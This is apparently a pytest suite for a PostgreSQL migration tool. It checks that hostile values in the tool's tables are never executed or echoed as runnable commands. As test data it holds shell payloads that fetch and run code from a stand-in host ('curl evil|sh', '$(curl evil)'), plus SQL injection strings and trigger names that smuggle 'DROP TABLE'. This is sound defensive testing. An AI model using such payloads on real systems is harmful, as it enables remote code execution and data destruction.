"""What our own tables hold is data: it is never run, and never printed as a part of a command."""

import json
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Aoc, Database
from tests.logged import logged

SHELL = ";curl evil|sh;$(curl evil)`curl evil`"
HOSTILE = (
    f"x'); CREATE TABLE canary_1 (); -- \"; CREATE TABLE canary_2 (); -- $aoc$; CREATE TABLE canary_3 (); -- "
    f"$aoc_body$ $q$ \\'; CREATE TABLE canary_4 (); -- %s %(x)s {{0}} {SHELL}\n\x1b[2J"
)
TABLES = (
    "aoc_alembic_version",
    "aoc_migration_hold",
    "aoc_migration_state",
    "aoc_migration_log",
    "aoc_supersedes_journal",
    "quarantine",
    "aoc_work_list",
)
COMMANDS = (
    "status",
    "audit",
    "verify",
    "history",
    "wait --timeout 100ms",
    "chain",
    "chain --drop-journal",
    "quarantine",
    "repair",
    "dedupe",
    "plan",
    "dedupe --apply",
    "dedupe --restore",
    "dedupe --restore --apply",
    "upgrade",
    "downgrade -1",
    "downgrade base",
    "upgrade --release-hold",
)


def spoiled(value: Any) -> Any:
    """Replace every string of a JSON value with hostile text."""
    if isinstance(value, dict):
        return {key: spoiled(inside) for key, inside in value.items()} | {HOSTILE: HOSTILE}
    if isinstance(value, list):
        return [spoiled(inside) for inside in value]
    return HOSTILE if isinstance(value, str) else value


def spoil(database: Database, table: str) -> int:
    """Put hostile text into every text column of a table; return how many columns and comments there were."""
    columns = database.rows(
        "SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute WHERE attrelid = %s::regclass AND "
        "attnum > 0 AND NOT attisdropped",
        (table,),
    )
    written = 0
    for name, type_ in columns:
        if type_ in ("text", "character varying(32)") and (table, name) != ("aoc_migration_state", "name"):
            text = HOSTILE if type_ == "text" else SHELL[:32]
            extra = f" || {name}" if name in ("id", "step") else ""
            database.run(f"UPDATE {table} SET {name} = %s{extra}", (text,))
        elif type_ == "text[]":
            spoiled_array = f"(SELECT array_agg(%s || e) FROM unnest({name}) AS e)"
            database.run(f"UPDATE {table} SET {name} = coalesce({spoiled_array}, '{{}}')", (HOSTILE,))
        elif type_ == "jsonb" and name not in ("source", "upstream", "linkset", "content", "identifiers"):
            for (value,) in database.rows(f"SELECT DISTINCT {name} FROM {table} WHERE {name} IS NOT NULL"):
                new = json.dumps(spoiled(value))
                database.run(f"UPDATE {table} SET {name} = %s WHERE {name} = %s::jsonb", (new, json.dumps(value)))
        else:
            continue
        written += 1
    if table == "aoc_work_list":
        comment = HOSTILE.replace("'", "''")
        database.run(f"COMMENT ON TABLE aoc_work_list IS 'dedupe{SHELL}, contract v1, table 1, run 1{comment}'")
    return written


def prepare(database: Database, aoc: Aoc, table: str) -> str:
    """Bring a database to the point where the table exists and is full; return its name."""
    aoc.configure(database)
    aoc.environment["AOC_ALLOW_SUPERSEDES_RETROFIT"] = "true"
    for n in range(4):
        database.add(f"{n}", retrieved_at=f"2025-01-0{n + 1}T00:00:00Z")
    database.add("twin", content_hash=database.value(f"SELECT content_hash FROM {database.table} LIMIT 1"))
    if table == "aoc_work_list":
        database.run(
            "CREATE TABLE aoc_work_list AS SELECT id, id AS kept, ARRAY[id] AS links, 'x' AS reason, "
            f"false AS repair, false AS refused, false AS stuck FROM {database.table}"
        )
        return table
    assert aoc("dedupe", "--apply").exit_code == 0
    assert aoc("upgrade").exit_code == 0
    if table == "aoc_migration_hold":
        assert aoc("downgrade", "-1").exit_code == 0
    return f"{database.table}_quarantine" if table == "quarantine" else table


@pytest.mark.alike
@pytest.mark.parametrize("table", TABLES)
def test_hostile_values_are_neither_run_nor_printed_as_commands(table: str, excititor: Database, aoc: Aoc) -> None:
    """Whatever a table of ours holds, every command ends in order: nothing of it is run, or printed to be run."""
    name = prepare(excititor, aoc, table)
    rows = excititor.value("SELECT count(*) FROM vex_raw")
    assert spoil(excititor, name)

    for command in COMMANDS:
        words = command.split()
        ran = aoc.json(words[0], "excititor", *words[1:])

        assert ran.exit_code in (0, 1, 2, 3, 4)
        assert "InternalError" not in ran.err
        for report in ran.json["reports"] if ran.out else []:
            printed = [str(report["next"]), *(f["help"] for f in report["findings"])]
            assert not [text for text in printed if "curl" in text], command
        assert excititor.rows("SELECT relname FROM pg_class WHERE relname ~ '^canary'") == [], command
    assert excititor.value("SELECT count(*) FROM vex_raw") >= rows


def test_the_hostile_text_would_run(excititor: Database) -> None:
    """Put into SQL as it is, the same text does run: the test above can fail."""
    excititor.run(f"SELECT ('{HOSTILE.partition(' --')[0]}")

    assert excititor.value("SELECT to_regclass('canary_1')") is not None


QUOTED = re.compile(
    r"""(?P<dollar>\$(\w*)\$(?P<body>.*?)\$\2\$) | \bE'(?:[^'\\]|''|\\.)*' | '(?:[^']|'')*' | "(?:[^"]|"")*" """,
    re.DOTALL | re.VERBOSE | re.IGNORECASE,
)


def unquoted(sql: str) -> str:
    """Return what of a statement is code: without literals and names in quotes, but with the bodies of blocks."""
    return QUOTED.sub(lambda found: unquoted(found["body"]) if found["dollar"] else "''", sql)


@pytest.fixture(scope="module")
def logged_database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Database, Path]]:
    """A database on a server that logs every statement, and the log."""
    with logged(tmp_path_factory.mktemp("s"), log_statement="all", log_line_prefix="~~ ") as found:
        yield found


def test_hostile_text_is_always_quoted(logged_database: tuple[Database, Path], aoc: Aoc) -> None:
    """In all that the server was sent, hostile text of our tables is only within quotes."""
    database, log = logged_database
    prepare(database, aoc, "aoc_migration_log")
    aoc("downgrade", "-1")
    tables = [*TABLES[:5], "vex_raw_quarantine"]
    database.run("UPDATE vex_raw_quarantine SET quarantine_repaired = '{}' WHERE false")
    for table in tables[1:]:
        assert spoil(database, table)
    begun = len(log.read_bytes())
    for command in COMMANDS:
        words = command.split()
        assert aoc(words[0], "excititor", *words[1:]).exit_code in (0, 1, 2, 3, 4)

    sent = re.findall(r"(?:LOG|DETAIL):  (.*?)(?=~~ |\Z)", log.read_bytes()[begun:].decode(), re.DOTALL)
    with_text = [text for text in sent if "curl evil" in text]  # values that were bound are among them
    assert len(sent) > 200
    assert with_text
    assert [text for text in with_text if "curl evil" in unquoted(text)] == []


def test_the_lexer_sees_code(excititor: Database) -> None:
    """Outside quotes, and in a DO block too, the same text would be found."""
    assert "curl evil" in unquoted("SELECT 1 curl evil")
    assert "curl evil" in unquoted("DO $a$ BEGIN curl evil; END $a$")
    assert "curl evil" not in unquoted("SELECT 'it''s curl evil', \"curl evil\", E'\\'curl evil'")


BEGUN = (
    "dedupe --keep earliest",
    "dedupe --keep latest --include-different",
    "repair --rule all",
    "repair --rule blank-key --rule missing-required",
)
NEVER = (
    "dedupe;curl evil|sh",
    "repair --rule all\nevil",
    "repair --rule $(curl)",
    "upgrade",
    "dedupe --keep 'a'",
    "",
)


@pytest.mark.parametrize("command", [*BEGUN, *NEVER])
def test_a_work_list_prints_only_commands_that_we_write(command: str, excititor: Database, aoc: Aoc) -> None:
    """Each command that we write is printed as it is typed; a list that says anything else is not ours."""
    prepare(excititor, aoc, "aoc_work_list")
    comment = f"{command}, contract v1, table 1, run 1".replace("'", "''")
    excititor.run(f"COMMENT ON TABLE aoc_work_list IS '{comment}'")

    status = aoc.json("status")

    if command in BEGUN:
        verb, _, options = command.partition(" ")
        assert f"aoc-migrate {verb} excititor {options} --apply" in status.finding("work-unfinished")["help"]
    else:
        assert status.slugs("error") == ["foreign-object"]


KEPT = """
CREATE FUNCTION kept() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN RETURN NEW; END'
"""


@pytest.mark.parametrize(
    "name", ["a' : DROP TABLE public.vex_raw; b", 'g" : DROP TABLE public.vex_raw; "', "line\nbreak", "it's so"]
)
def test_a_name_prints_no_command_and_can_be_accepted(
    name: str, excititor: Database, aoc: Aoc, retrofit: dict[str, str]
) -> None:
    """A trigger's name begins no command of its own, and the option that accepts it is printed whole."""
    aoc.configure(excititor)
    excititor.add("first")
    excititor.add("next", retrieved_at="2025-02-01T00:00:00Z")
    quoted = '"' + name.replace('"', '""') + '"'
    excititor.run(KEPT)
    excititor.run(f"CREATE TRIGGER {quoted} BEFORE UPDATE ON vex_raw FOR EACH ROW EXECUTE FUNCTION kept()")

    printed = [line.strip() for line in aoc("audit", **retrofit).out.splitlines()]

    assert "DROP TABLE public.vex_raw;" not in printed
    (option,) = [line for line in printed if line.startswith("--accept")]
    assert aoc.json("audit", **retrofit).slugs("error") == ["update-trigger"]
    assert aoc.json("audit", *shlex.split(option), **retrofit).slugs("error") == []
    repaired = aoc.json("repair", "excititor", "--rule", "all", "--apply", *shlex.split(option))
    assert repaired.report["next"]["command"] == f"aoc-migrate audit excititor {option}"
